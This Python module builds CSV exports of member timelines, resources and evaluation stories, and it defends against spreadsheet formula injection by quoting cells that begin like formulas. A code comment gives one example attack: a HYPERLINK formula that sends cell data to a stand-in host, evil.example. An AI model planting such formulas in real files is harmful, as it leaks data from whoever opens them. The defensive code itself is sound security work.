"""CSV rows of the views: one row per timeline entry, resource or story, and the one
writer every CSV goes through (`write_csv`).

They are made from a view already folded for a viewer, so a CSV never shows more than
the view it comes from (DESIGN: every export a user can reach filters by visibility).
"""
from __future__ import annotations

import csv
from collections.abc import Iterable, Sequence
from typing import Any, TextIO

PORTFOLIO_CSV_COLUMNS = ("member_id", "position", "occurred_at", "community_id", "kind",
                         "type", "summary", "visibility", "value_cycle", "corrected")
RESOURCES_CSV_COLUMNS = ("community_id", "resource_id", "title", "kind", "url", "tags",
                         "shared_by", "shared_at", "reuses_by_others", "reused_by")
EVALUATION_CSV_COLUMNS = ("community_id", "from", "to", "value_cycle", "reflection_id",
                          "member_id", "member_name", "occurred_at", "visibility", "prompt",
                          "text")


def yes_no(value: bool) -> str:
    """A boolean as every CSV spells it (sessions' member_led, the portfolio's corrected)."""
    return "yes" if value else "no"


def _cell(value: Any) -> Any:
    if value is None:
        return ""
    if isinstance(value, bool):
        return yes_no(value)
    if isinstance(value, (list, tuple)):
        return "; ".join(str(v) for v in value)
    return value


#: A spreadsheet takes a cell that starts with one of these as a formula (OWASP "CSV
#: injection"): a title such as `=HYPERLINK("http://evil.example/?x="&A1,"x")` would run
#: when a coordinator opens the file.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def inert(value: Any) -> Any:
    """A cell a spreadsheet shows as the text it is: text starting like a formula gets a
    leading `'` (OWASP); numbers, a negative one included, stay numbers."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def write_csv(handle: TextIO, columns: Sequence[str],
              rows: Iterable[Sequence[Any]]) -> None:
    """The header and the rows, every cell made inert: the one writer of `journey
    export-csv` and the coordinator's downloads, so no CSV can carry a formula."""
    writer = csv.writer(handle)
    writer.writerow(columns)
    writer.writerows([inert(cell) for cell in row] for row in rows)


def portfolio_csv_rows(view: dict[str, Any]) -> list[list[Any]]:
    """The timeline of a portfolio view, one row per entry (PORTFOLIO_CSV_COLUMNS)."""
    member = view["member"]["member_id"]
    rows = []
    for item in view["timeline"]:
        data = item["data"]
        values = {**item, "member_id": member, "visibility": data.get("visibility"),
                  "value_cycle": data.get("value_cycle")}
        rows.append([_cell(values[c]) for c in PORTFOLIO_CSV_COLUMNS])
    return rows


def resources_csv_rows(view: dict[str, Any]) -> list[list[Any]]:
    """The resources of a portfolio or community view (RESOURCES_CSV_COLUMNS)."""
    rows = []
    for item in view["resources"]:
        values = {**item, "shared_by": item["shared_by"]["member_id"],
                  "reused_by": [p["member_id"] for p in item["reused_by"]]}
        rows.append([_cell(values[c]) for c in RESOURCES_CSV_COLUMNS])
    return rows


def evaluation_csv_rows(view: dict[str, Any]) -> list[list[Any]]:
    """The stories of an evaluation view, one row per story (EVALUATION_CSV_COLUMNS)."""
    rows = []
    for column in view["columns"]:
        for cycle, stories in column["stories"].items():
            for story in stories:
                values = {**story, "community_id": column["community_id"],
                          "from": column["from"], "to": column["to"], "value_cycle": cycle,
                          "member_id": story["member"]["member_id"],
                          "member_name": story["member"]["name"]}
                rows.append([_cell(values[c]) for c in EVALUATION_CSV_COLUMNS])
    return rows
